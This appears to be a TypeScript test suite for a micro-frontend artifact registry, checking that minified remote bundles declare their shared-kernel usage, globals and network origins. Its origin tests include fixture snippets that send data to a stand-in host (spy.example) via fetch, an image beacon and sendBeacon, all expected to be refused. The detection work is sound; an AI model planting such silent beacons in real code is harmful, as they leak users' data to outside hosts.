import { after, before, test } from 'node:test';
import { parse } from 'acorn';
import { expect } from 'expect';
import { fixtureRemote, fixtureShell, integrityOf } from '../testing/fixture-artifacts.ts';
import { startRegistry, type TestRegistry } from '../testing/start-registry.ts';
import { usedExports } from './used-exports.ts';

/** The shared modules of a build, as webpack writes them. */
const ROOMS = `1:()=>s("default","shared-kernel/ui",!1,[1,1,0,0]),2:()=>s("default","react",!1,[1,19])`;

function usedBy(...modules: string[]) {
  const entry = `var mfe_x_1_0_0;(()=>{var c={${ROOMS}},M={${modules.map((code, at) => `${10 + at}(e,t,r){${code}}`).join()}};})();`;
  const used = usedExports([parse(entry, { ecmaVersion: 'latest' })]);
  return Object.fromEntries([...used].map(([room, names]) => [room, [...names].sort()]));
}

test('names are found however a minifier writes them', () => {
  expect(
    usedBy(
      'var a=r(1);(0,a.Button)();',
      'let {Text:n,"Box":o}=r(1);n(o)',
      'r(1).Card;const b=r(2);t.d={x:()=>b.useState}',
      'var q=r(1),w=q["Chip"];function late(){return z.Stack}var z=r(1);late(w)',
    ),
  ).toEqual({ 'shared-kernel/ui': ['Box', 'Button', 'Card', 'Chip', 'Stack', 'Text'], react: ['useState'] });
});

test('another thing of the same short name is no room', () => {
  expect(
    usedBy(
      'var a=r(1);a.Button;(function(a){a.toFixed})(1);(a=>a.length)("");for(let a of [])a.size;try{}catch(a){a.message}{let a={};a.own}',
      'var a=r(9);a.Foreign;function r2(r){var a=r(1);return a.Nothing}',
      'var a=e(1);a.Exports;switch(1){case 1:let r=f,b=r(1);b.Other}',
    ),
  ).toEqual({ 'shared-kernel/ui': ['Button'] });
});

let registry: TestRegistry;
before(async () => {
  registry = await startRegistry();
  await registry.publish(fixtureShell());
});
after(() => registry.stop());

/** A remote with these files in its descriptor; everything else is valid. */
function publish(version: string, change: (files: Map<string, string>) => void, kernelExports = {}) {
  const remote = fixtureRemote({ version, kernelExports });
  const texts = new Map([...remote.files].map(([path, bytes]) => [path, new TextDecoder().decode(bytes)]));
  change(texts);
  remote.files = new Map([...texts].map(([path, text]) => [path, new TextEncoder().encode(text)]));
  remote.descriptor.files = [...remote.files].map(([path, bytes]) => ({
    ...{ path, integrity: integrityOf(bytes), bytes: bytes.length },
  }));
  return registry.publish(remote);
}
const ENTRY = 'remoteEntry.0a1b2c3d4e.js';
const PAGE = 'f0e1d2c3b4.js';
const withRooms = (files: Map<string, string>) =>
  files.set(ENTRY, `${files.get(ENTRY)};(()=>{var c={${ROOMS}};})();`);
const refused = (detail: string, code = 'descriptor_lies') => ({
  status: 422,
  body: {
    code: 'artifact_does_not_fit',
    errors: [{ code, params: { detail: expect.stringContaining(detail) } }],
  },
});

test('a descriptor that hides what its files use of the kernel is refused, with the names', async () => {
  const using = (files: Map<string, string>) => {
    withRooms(files);
    files.set(PAGE, '(self.chunks=self.chunks||[]).push([[1],{77(e,t,r){var a=r(1);a.Button;a.Text}}]);');
  };
  expect(await publish('2.0.0', using, { 'shared-kernel/ui': ['Button'] })).toMatchObject(
    refused('use Text of shared-kernel/ui'),
  );
  expect((await publish('2.0.0', using, { 'shared-kernel/ui': ['Button', 'Text'] })).status).toBe(201);
});

test('a remote makes its own container, and no other global', async () => {
  expect(await publish('2.1.0', (files) => files.set(PAGE, 'var mfe_home_1_0_0 = {};'))).toMatchObject(
    refused('f0e1d2c3b4.js makes the global mfe_home_1_0_0'),
  );
  expect(await publish('2.1.0', (files) => files.set(ENTRY, '(()=>{})();'))).toMatchObject(
    refused('does not make the container mfe_hello_2_1_0'),
  );
});

test('a script that no browser would run is refused, and so is one that is nested beyond reading', async () => {
  expect(await publish('2.2.0', (files) => files.set(PAGE, 'var = 1'))).toMatchObject(
    refused('f0e1d2c3b4.js: Unexpected token', 'script_invalid'),
  );
  const deep = `(()=>{${'['.repeat(100_000)}${']'.repeat(100_000)}})();`;
  expect((await publish('2.2.0', (files) => files.set(PAGE, deep))).status).toBe(422);
});

test('a page that no script offers, and an origin that is loaded from in silence, are refused with the place', async () => {
  const routes = [
    { id: 'hidden', path: 'hidden', access: 'member' as const, titleKey: 'title', surface: 'page' as const },
  ];
  const remote = fixtureRemote({ version: '2.3.0', manifest: { routes, navigation: [] } });
  const gone = new TextEncoder().encode('var mfe_hello_2_3_0 = {};');
  remote.files.set(ENTRY, gone);
  remote.descriptor.files = [...remote.files].map(([path, bytes]) => ({
    ...{ path, integrity: integrityOf(bytes), bytes: bytes.length },
  }));
  remote.descriptor.preload = { hidden: [ENTRY] };
  expect(await registry.publish(remote)).toMatchObject(refused('names the page hidden'));

  const loads = (code: string) => publish('2.3.1', (files) => files.set(PAGE, `(()=>{${code}})();`));
  for (const code of [
    'fetch("https://spy.example/x?"+a)',
    ['let a=new Image;a.src=`https://spy.example/$', '{a}`'].join(''),
    'navigator.sendBeacon("https://spy.example")',
    'j("img",{src:"https://spy.example/p.png"})',
  ])
    expect(await loads(code)).toMatchObject(
      refused('f0e1d2c3b4.js loads from https://spy.example (character'),
    );
  // A link leads there, and loads nothing.
  expect((await loads('j("a",{href:"https://www.ameli.fr/x"})')).status).toBe(201);
});

test('an origin that a manifest asks for is one that its scripts name', async () => {
  const remote = fixtureRemote({
    version: '2.4.0',
    manifest: { origins: { connect: ['https://maps.example'] } },
  });
  const without = new TextDecoder().decode(remote.files.get(ENTRY)).replace('https://maps.example', '');
  remote.files.set(ENTRY, new TextEncoder().encode(without));
  remote.descriptor.files = [...remote.files].map(([path, bytes]) => ({
    ...{ path, integrity: integrityOf(bytes), bytes: bytes.length },
  }));
  expect(await registry.publish(remote)).toMatchObject(refused('asks for https://maps.example, which none'));
});
